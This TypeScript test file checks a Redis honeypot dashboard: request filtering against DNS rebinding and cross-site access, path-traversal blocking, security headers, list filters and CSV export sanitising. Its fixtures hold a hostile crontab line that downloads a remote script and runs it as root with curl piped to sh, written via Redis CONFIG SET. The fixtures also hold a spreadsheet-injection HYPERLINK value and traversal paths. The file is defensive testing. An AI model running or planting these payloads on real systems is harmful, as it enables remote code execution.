import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Act } from '../src/model/act.ts';
import type { Finding } from '../src/model/finding.ts';
import type {
  IndicatorAnswer,
  IndicatorView,
  ListAnswer,
  OverviewAnswer,
  SessionAnswer,
  SessionEventsAnswer,
  SessionView,
  SourceView,
} from '../src/serve/answers.ts';
import { inMemory } from './dashboard/in-memory.ts';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const opened: Act = {
  type: 'session.opened',
  protocol: 'redis',
  local: { address: '127.0.0.1', port: 6379 },
};

function command(name: string, ...args: string[]): Act {
  return { type: 'redis.command', name, args, db: 0, reply: 'ok' };
}

function value(key: string, text: string): Act {
  return { type: 'redis.value', db: 0, key, kind: 'string', value: text, command: 'set' };
}

/** One session that only looked, one that attacked. */
function twoSessions() {
  const dashboard = inMemory();
  dashboard.see('looked', opened, '192.0.2.7');
  dashboard.see('looked', command('info'), '192.0.2.7');
  dashboard.see('attacked', opened);
  dashboard.see('attacked', command('set', 'backup1', CRON));
  dashboard.see('attacked', value('backup1', CRON));
  dashboard.see('attacked', command('config|set', 'dir', '/var/spool/cron'));
  dashboard.see('attacked', { type: 'redis.setting', name: 'dir', value: '/var/spool/cron', accepted: true });
  return dashboard;
}

describe('dashboard requests', () => {
  test.for(['127.0.0.1:8377', 'localhost:8377', '[::1]:8377', 'LOCALHOST:8377'])(
    'are answered for the host %s',
    async (host) => {
      const { status } = await inMemory().ask('/api/overview', { host });

      expect(status).toBe(200);
    },
  );

  test.for([
    'attacker.example.invalid',
    'attacker.example.invalid:8377',
    '127.0.0.1',
    '127.0.0.1:80',
    'localhost:8378',
    '127.0.0.1:8377.example.invalid',
    '192.0.2.1:8377',
    '',
  ])('are refused for the host "%s", with the reason', async (host) => {
    const answer = await inMemory().ask('/api/overview', { host });

    expect(answer.status).toBe(421);
    expect(await answer.text()).toContain('rebinding');
  });

  test('of another origin are refused', async () => {
    const dashboard = inMemory();

    const foreign = await dashboard.ask('/api/overview', { origin: 'http://attacker.example.invalid' });
    const opaque = await dashboard.ask('/api/overview', { origin: 'null' });
    const own = await dashboard.ask('/api/overview', { origin: 'http://127.0.0.1:8377' });

    expect([foreign.status, opaque.status, own.status]).toEqual([403, 403, 200]);
  });

  test.for(['cross-site', 'same-site'])('that a %s page makes are refused', async (site) => {
    const { status } = await inMemory().ask('/api/sessions', { 'sec-fetch-site': site });

    expect(status).toBe(403);
  });

  test('of a program that is no browser are answered', async () => {
    const { app } = inMemory();

    const { status } = await app.request('/api/overview', { headers: { host: 'localhost:8377' } });

    expect(status).toBe(200);
  });

  test('may open the page, and only that, by a link from elsewhere', async () => {
    const page = new Map([['/', { type: 'text/html', body: '<title>Sundew</title>', lasting: false }]]);
    const link = {
      'sec-fetch-site': 'cross-site',
      'sec-fetch-mode': 'navigate',
      'sec-fetch-dest': 'document',
    };
    const dashboard = inMemory(page);

    const opening = await dashboard.ask('/', link);
    const framing = await dashboard.ask('/', { ...link, 'sec-fetch-dest': 'iframe' });
    const reading = await dashboard.ask('/api/overview', link);

    expect([opening.status, framing.status, reading.status]).toEqual([200, 403, 403]);
  });

  test.for(['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])(
    'with the method %s are refused',
    async (method) => {
      const { status, headers } = await inMemory().ask('/api/sessions', {}, { method });

      expect(status).toBe(405);
      expect(headers.get('allow')).toBe('GET, HEAD');
    },
  );

  test('with a body or an endless address are refused', async () => {
    const dashboard = inMemory();

    const body = await dashboard.ask('/api/sessions', { 'content-length': '5' });
    const chunked = await dashboard.ask('/api/sessions', { 'transfer-encoding': 'chunked' });
    const long = await dashboard.ask(`/api/sessions?contains=${'a'.repeat(3_000)}`);

    expect([body.status, chunked.status, long.status]).toEqual([413, 413, 414]);
  });

  test('get headers that leave a page no way out, on refusals and errors too', async () => {
    const dashboard = inMemory();
    const answers = [
      await dashboard.ask('/'),
      await dashboard.ask('/api/overview'),
      await dashboard.ask('/api/nothing'),
      await dashboard.ask('/api/sessions?limit=x'),
      await dashboard.ask('/api/overview', { host: 'attacker.example.invalid' }),
    ];

    for (const { headers } of answers) {
      expect(headers.get('content-security-policy')).toContain("default-src 'none'");
      expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('no-referrer');
      expect(headers.get('access-control-allow-origin')).toBeNull();
    }
  });

  test('say how to build the page when there is none', async () => {
    const answer = await inMemory().ask('/');

    expect(answer.status).toBe(503);
    expect(await answer.text()).toContain('npm run build:ui');
  });

  test.for(['/../package.json', '/..%2fpackage.json', '/assets/../../package.json', '/%2e%2e/package.json'])(
    'cannot climb out of the page folder: %s',
    async (path) => {
      const { status } = await inMemory().ask(path);

      expect(status).toBe(404);
    },
  );
});

describe('dashboard API', () => {
  test('sums up what is there', async () => {
    const overview = await twoSessions().json<OverviewAnswer>('/api/overview');

    expect(overview.totals).toMatchObject({ events: 7, sessions: 2, sources: 2, findings: 2 });
    expect(overview.figures.attacks.count).toBe(1);
    expect(overview.figures.sessions.hours.reduce((a, b) => a + b)).toBe(2);
    expect(overview.severities).toMatchObject({ critical: 1, high: 1 });
    expect(overview.latestFindings.map(({ rule }) => rule)).toEqual(['test.directory', 'test.cron-value']);
    expect(overview.sensors[0]).toMatchObject({ name: 'redis-1', port: 6379 });
  });

  test('tells of trouble with the journal', async () => {
    const dashboard = inMemory();
    dashboard.journal.status = { ...dashboard.journal.status, trouble: 'The disk is full.\u001b[2J' };

    const { journal } = await dashboard.json<OverviewAnswer>('/api/overview');

    expect(journal.trouble).toBe('The disk is full.\\x1b[2J');
  });

  test('narrows lists by severity, text, time and what belongs together', async () => {
    const dashboard = twoSessions();
    const total = async (path: string): Promise<number> =>
      (await dashboard.json<ListAnswer<unknown>>(path)).total;

    expect(await dashboard.json('/api/sessions')).toMatchObject({ total: 1, noise: 1 });
    expect(await total('/api/sessions?noise=1')).toBe(2);
    expect(await total('/api/sessions?severity=high')).toBe(1);
    expect(await total('/api/sessions?level=medium')).toBe(0);
    expect(await total('/api/sessions?source=192.0.2.7')).toBe(1);
    expect(await total('/api/sessions?technique=T1105')).toBe(1);
    expect(await total('/api/sessions?campaign=test-worm')).toBe(1);
    expect(await total('/api/sessions?attacks=1')).toBe(1);
    expect(await total('/api/findings?contains=CRONTAB')).toBe(0);
    expect(await total('/api/findings?contains=CRON%20JOB')).toBe(1);
    expect(await total('/api/findings?rule=test.directory')).toBe(1);
    expect(await total(`/api/events?since=${dashboard.clock.now()}`)).toBe(1);
    expect(await total('/api/sources?since=1h&noise=1')).toBe(2);
    expect(await total('/api/sources?since=1h')).toBe(1);
    expect(await total('/api/sources?noise=1&country=unknown')).toBe(2);
    expect(await total('/api/sources?noise=1&country=NL')).toBe(0);
    expect(await total(`/api/sessions?noise=1&until=${dashboard.clock.now() - 3_600_000}`)).toBe(0);
    expect(await total('/api/rules')).toBe(2);
  });

  test('pages lists, newest first', async () => {
    const dashboard = inMemory();
    for (let count = 0; count < 12; count += 1) dashboard.see(`s${count}`, opened);

    const page = await dashboard.json<ListAnswer<SessionView>>('/api/sessions?noise=1&limit=5&offset=5');

    expect(page.total).toBe(12);
    expect(page.items.map(({ id }) => id)).toEqual(['s6', 's5', 's4', 's3', 's2']);
  });

  test('sorts lists both ways', async () => {
    const dashboard = twoSessions();

    const up = await dashboard.json<ListAnswer<SourceView>>('/api/sources?noise=1&sort=name');
    const down = await dashboard.json<ListAnswer<SourceView>>('/api/sources?noise=1&sort=name&order=desc');

    expect(up.items.map(({ address }) => address)).toEqual(['192.0.2.7', '203.0.113.5']);
    expect(down.items.map(({ address }) => address)).toEqual(['203.0.113.5', '192.0.2.7']);
  });

  test.for(['limit=0', 'limit=501', 'limit=-1', 'offset=x', 'severity=awful', 'since=yesterday', 'bogus=1'])(
    'refuses the filter %s and names it',
    async (filter) => {
      const answer = await inMemory().ask(`/api/sessions?${filter}`);

      expect(answer.status).toBe(400);
      expect(((await answer.json()) as { error: string }).error).toContain(filter.split('=')[0]);
    },
  );

  test('shows a session with its findings and its events in order', async () => {
    const dashboard = twoSessions();

    const { session, findings } = await dashboard.json<SessionAnswer>('/api/sessions/attacked');
    const first = await dashboard.json<SessionEventsAnswer>('/api/sessions/attacked/events?limit=2');
    const rest = await dashboard.json<SessionEventsAnswer>('/api/sessions/attacked/events?limit=9&offset=2');

    expect(session).toMatchObject({
      worst: 'A value that is a cron job',
      campaign: { id: 'test-worm', title: 'Test worm' },
      findings: 2,
    });
    expect(findings).toHaveLength(2);
    expect(first.events.map(({ what }) => what)).toEqual(['connected', 'SET']);
    expect(first.more).toBe(true);
    expect(rest.events.map(({ what, derived }) => [what, derived])).toEqual([
      ['string value', true],
      ['CONFIG SET', false],
      ['setting', true],
    ]);
    expect(rest.more).toBe(false);
    expect(findings.map(({ evidence }) => evidence[0]?.event)).toEqual([
      rest.events[0]?.id,
      rest.events[2]?.id,
    ]);
  });

  test('shows an indicator with the sessions behind it', async () => {
    const dashboard = twoSessions();
    const list = await dashboard.json<ListAnswer<IndicatorView>>('/api/indicators?kind=url');
    const id = list.items[0]?.id ?? '';

    const { indicator, sessions } = await dashboard.json<IndicatorAnswer>(`/api/indicators/${id}`);

    expect(indicator).toMatchObject({ kind: 'url', value: 'http://203.0.113.9/init.sh' });
    expect(sessions.map((session) => session.id)).toEqual(['attacked']);
  });

  test.for(['/api/sessions/none', '/api/sessions/none/events', '/api/indicators/none', '/api/none'])(
    'says that there is nothing at %s',
    async (path) => {
      const answer = await inMemory().ask(path);

      expect(answer.status).toBe(404);
      expect(answer.headers.get('content-type')).toContain('application/json');
    },
  );

  test('answers HEAD without opening a stream', async () => {
    const dashboard = inMemory();

    const answer = await dashboard.ask('/api/stream', {}, { method: 'HEAD' });

    expect(answer.status).toBe(200);
    expect(answer.body).toBeNull();
    expect(dashboard.live.clients).toBe(0);
  });

  test('exports a list under its filters, as the command line writes it', async () => {
    const dashboard = twoSessions();

    const csv = await dashboard.ask('/api/export/findings.csv?rule=test.cron-value');
    const json = (await dashboard.json('/api/export/findings.json?rule=test.cron-value')) as Finding[];
    const lines = (await (await dashboard.ask('/api/export/findings.ndjson')).text()).trimEnd().split('\n');

    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="sundew-findings.csv"');
    expect((await csv.text()).trimEnd().split('\r\n')).toHaveLength(2);
    expect(json.map(({ rule }) => rule)).toEqual(['test.cron-value']);
    expect(lines).toHaveLength(2);
  });

  test('exports no cell that a spreadsheet would compute', async () => {
    const dashboard = inMemory();
    dashboard.see('s', value('=HYPERLINK("http://203.0.113.9")', CRON));

    const csv = await (await dashboard.ask('/api/export/indicators.csv?kind=key')).text();

    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)"?=/m);
  });

  test('puts nothing but printable text into its answers, whatever bytes came', async () => {
    const bytes = fc.uint8Array({ maxLength: 40 }).map((raw) => Buffer.from(raw).toString('latin1'));
    const unsafe = /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\u2028\u2029]/u;

    await fc.assert(
      fc.asyncProperty(bytes, bytes, async (key, text) => {
        const dashboard = inMemory();
        dashboard.see('s', opened);
        dashboard.see('s', command(key, text, key));
        dashboard.see('s', value(key, `${text}* * *`));
        dashboard.see('s', { type: 'redis.login', user: key, password: text, accepted: false });
        dashboard.see('s', { type: 'wire.fault', fault: text, looksLike: 'unknown', sample: key });
        dashboard.see('s', { type: 'redis.script', via: 'eval', body: text, sha1: '' });
        for (const path of ['overview', 'events', 'findings', 'indicators', 'sessions/s/events', 'rules']) {
          const answer = await dashboard.json(`/api/${path}`);
          for (const shown of textsIn(answer)) expect(shown).not.toMatch(unsafe);
        }
      }),
      { numRuns: 40 },
    );
  });
});

function textsIn(answer: unknown): string[] {
  if (typeof answer === 'string') return [answer];
  if (typeof answer !== 'object' || answer === null) return [];
  return Object.entries(answer).flatMap(([name, part]) => [name, ...textsIn(part)]);
}
